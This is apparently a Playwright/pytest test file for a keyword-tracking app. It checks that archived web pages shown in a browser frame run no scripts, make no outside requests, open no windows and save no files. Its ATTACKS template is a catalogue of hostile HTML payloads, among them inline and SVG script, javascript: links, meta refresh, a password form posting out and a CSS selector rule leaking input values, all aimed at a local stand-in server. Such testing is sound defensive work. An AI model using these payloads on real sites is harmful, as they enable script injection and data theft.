"""A stored page in a real browser: nothing of it runs, loads, moves on, sends or saves."""

import gzip
import hashlib
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest

import clock
import models
from tests import fakes, patience
from tests.state import NOON
from tests.web import chromium
from tests.web.pages.checked import checked, day, keyword, objects

#: What a page can try. {evil}: where it would get to.
ATTACKS = """<!doctype html><html><head>
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="{evil}"><link rel="prefetch" href="{evil}/prefetch">
<link rel="stylesheet" href="{evil}/style.css"><link rel="icon" href="{evil}/icon.ico"><link rel="prerender" href="{evil}/pre">
<link rel="preload" as="image" href="{evil}/preload"><link rel="modulepreload" href="{evil}/module">
<link rel="manifest" href="{evil}/manifest">
<meta http-equiv="refresh" content="0;url={evil}/refresh"><meta http-equiv="Set-Cookie" content="a=b">
<meta http-equiv="x-dns-prefetch-control" content="on">
<base href="{evil}/base/" target="_top">
<script>window.ran = 'inline'; top.location = '{evil}/top'; parent.ran = 'parent';</script>
<script src="{evil}/script.js"></script><script type="module">import '{evil}/module.js'</script>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{evil}/speculation"]}}]}}</script>
<style>@import url("{evil}/import.css"); @font-face {{ font-family: f; src: url("{evil}/font") }}
body {{ background: url("{evil}/background"); font-family: f }} input[value^="a"] {{ background: url("{evil}/exfil") }}
@namespace svg url({evil}/ns); </style>
</head><body onload="window.ran = 'onload'" background="{evil}/body">
<p id="seen">The stored words</p>
<img src="{evil}/img.png" srcset="{evil}/srcset 2x" onerror="window.ran = 'onerror'"><img src=x onerror="parent.ran = 'error'">
<picture><source srcset="{evil}/picture"><img></picture>
<svg onload="window.ran = 'svg'"><image href="{evil}/svg"/><use href="{evil}/use#a"/><script>window.ran = 'svg script'</script>
<animate attributeName="href" values="javascript:window.ran='animate'"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:window.ran='math'">m</maction></math>
<object data="{evil}/object"></object><embed src="{evil}/embed"><iframe src="{evil}/iframe"></iframe>
<iframe srcdoc="<script>top.ran = 'srcdoc'</script>"></iframe><iframe src="javascript:top.ran='frame'"></iframe>
<object data="data:text/html,<script>top.ran='data'</script>"></object><applet code="a" codebase="{evil}/applet"></applet>
<video src="{evil}/video" poster="{evil}/poster" autoplay></video><audio src="{evil}/audio" autoplay></audio>
<video><track src="{evil}/track"></video>
<form id="send" action="{evil}/form" method="post" target="_top"><input name="password" type="password" value="abc" autofocus
 onfocus="window.ran = 'focus'"><button id="submit" formaction="{evil}/formaction">Log in</button></form>
<a id="self" href="{evil}/self">self</a><a id="top" href="{evil}/top" target="_top" ping="{evil}/ping">top</a>
<a id="blank" href="{evil}/blank" target="_blank">blank</a><a id="script" href="javascript:top.ran='href'">script</a>
<a id="save" href="data:text/html,x" download="evil.html">save</a><a id="ours" href="/keywords" target="_top">ours</a>
<details open ontoggle="window.ran = 'toggle'"><summary>s</summary></details><marquee onstart="window.ran = 'marquee'">m</marquee>
<table background="{evil}/table"><tr><td background="{evil}/td">t</td></tr></table>
<body onpageshow="window.ran = 'pageshow'"><template><img src="{evil}/template"></template><noscript><img src="{evil}/noscript">
<meta http-equiv="refresh" content="0;url={evil}/noscript-refresh"></noscript>
</body></html>"""


class Evil:
    """A server that keeps who came, also without asking for anything."""

    def __init__(self) -> None:
        self.came: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                connection.settimeout(1)
                with suppress(OSError), connection:
                    self.came.append(b"a connection")
                    self.came[-1] = connection.recv(200) or self.came[-1]
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(patience.HANG_S)


@pytest.fixture
def evil() -> Iterator[Evil]:
    made = Evil()
    yield made
    made.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """A page that keeps what was answered, which windows opened and what was to be saved."""
    context = browser.new_context(viewport={"width": 1280, "height": 1200}, accept_downloads=True)
    context.set_default_timeout(chromium.TIMEOUT_MS)
    made = context.new_page()
    made.asked, made.windows, made.saved = [], [], []
    context.on("response", lambda response: made.asked.append(response.url))  # what a policy refuses is a request without one
    context.on("page", lambda window: made.windows.append(window.url))
    made.on("download", lambda download: made.saved.append(download.suggested_filename))
    yield made
    context.close()


@pytest.fixture
def found(evil: Evil) -> Iterator[models.Keyword]:
    """A keyword whose stored page of today attacks whoever opens it."""
    with clock.frozen(NOON):
        made = keyword()
        checked(made, fakes.serp(["https://example.com/shoes"]))
    body = gzip.compress(ATTACKS.format(evil=evil.url).encode())
    store = objects()
    [key] = [key for key in store.keys("") if key.endswith("p1.html.gz")]
    [check] = [key for key in store.keys("") if key.endswith(".json")]
    told = json.loads(store.get(check) or b"")
    told["pages"][0]["sha256"] = hashlib.sha256(body).hexdigest()
    store.put(key, body, content_type="application/gzip")
    store.put(check, json.dumps(told).encode(), content_type="application/json")
    yield made


def path(found: models.Keyword, rest: str) -> str:
    return f"/keywords/{found.id}/days/{day(0)}/page/1{rest}"


def strangers(page: Any, address: str) -> list[str]:
    """What others than us answered."""
    return [url for url in page.asked if not url.startswith((f"{address}/", "data:", "about:", "chrome-error:"))]


def settle(page: Any) -> None:
    """Let what begins after a page is there begin: two frames are drawn and the network rests."""
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(700)


def test_nothing_of_a_stored_page_runs_or_leaves(address: str, page: Any, found: models.Keyword, evil: Evil) -> None:
    page.goto(f"{address}{path(found, '/shown')}")
    settle(page)
    inner = page.frames[1]
    assert inner.text_content("#seen") == "The stored words", "the frame shows the page"
    assert page.url.endswith("/shown") and page.evaluate("window.ran || null") is None
    assert len(page.frames) == 2, "no frame of the stored page lives"
    assert (evil.came, strangers(page, address), page.windows, page.saved) == ([], [], [], [])


@pytest.mark.parametrize("what", ["#submit", "#self", "#top", "#blank", "#script", "#save", "#ours"])
def test_a_click_in_a_stored_page_leads_nowhere(address: str, page: Any, found: models.Keyword, evil: Evil, what: str) -> None:
    page.goto(f"{address}{path(found, '/shown')}")
    settle(page)
    page.frames[1].click(what, force=True, no_wait_after=True)
    settle(page)
    assert page.url.endswith("/shown") and page.evaluate("window.ran || null") is None
    assert (evil.came, page.windows, page.saved) == ([], [], [])


def test_the_address_of_the_frame_opened_by_itself_leads_to_our_page(
    address: str, page: Any, found: models.Keyword, evil: Evil
) -> None:
    page.goto(f"{address}{path(found, '/framed')}")
    settle(page)
    assert page.url == f"{address}{path(found, '/shown')}" and evil.came == []


def test_an_older_browser_that_opens_it_by_itself_runs_nothing_either(
    address: str, page: Any, found: models.Keyword, evil: Evil
) -> None:
    def without_where(route: Any) -> None:
        route.fulfill(response=route.fetch())  # it says not where the answer is to stand

    page.route("**/framed", without_where)
    page.goto(f"{address}{path(found, '/framed')}")
    settle(page)
    assert page.text_content("#seen") == "The stored words" and page.url.endswith("/framed")
    assert page.evaluate("window.ran || null") is None
    assert (evil.came, strangers(page, address), page.windows, page.saved) == ([], [], [], [])


def test_a_download_is_a_text_and_nothing_is_shown(address: str, page: Any, found: models.Keyword, evil: Evil) -> None:
    page.goto(f"{address}/keywords/{found.id}/days/{day(0)}")
    with page.expect_download() as saved:
        page.click("text=as text")
    assert saved.value.suggested_filename.endswith(".html.txt") and page.url.endswith(f"/days/{day(0)}")
    assert evil.came == []


def test_the_trap_springs_where_a_page_is_let(page: Any, evil: Evil) -> None:
    """The attacks are real: without our headers and frame they come through."""
    page.route(
        "http://unguarded.test/", lambda route: route.fulfill(body=ATTACKS.format(evil=evil.url), content_type="text/html")
    )
    with suppress(Exception):  # it is led away while it loads
        page.goto("http://unguarded.test/")
    settle(page)
    assert evil.came and strangers(page, "http://unguarded.test")
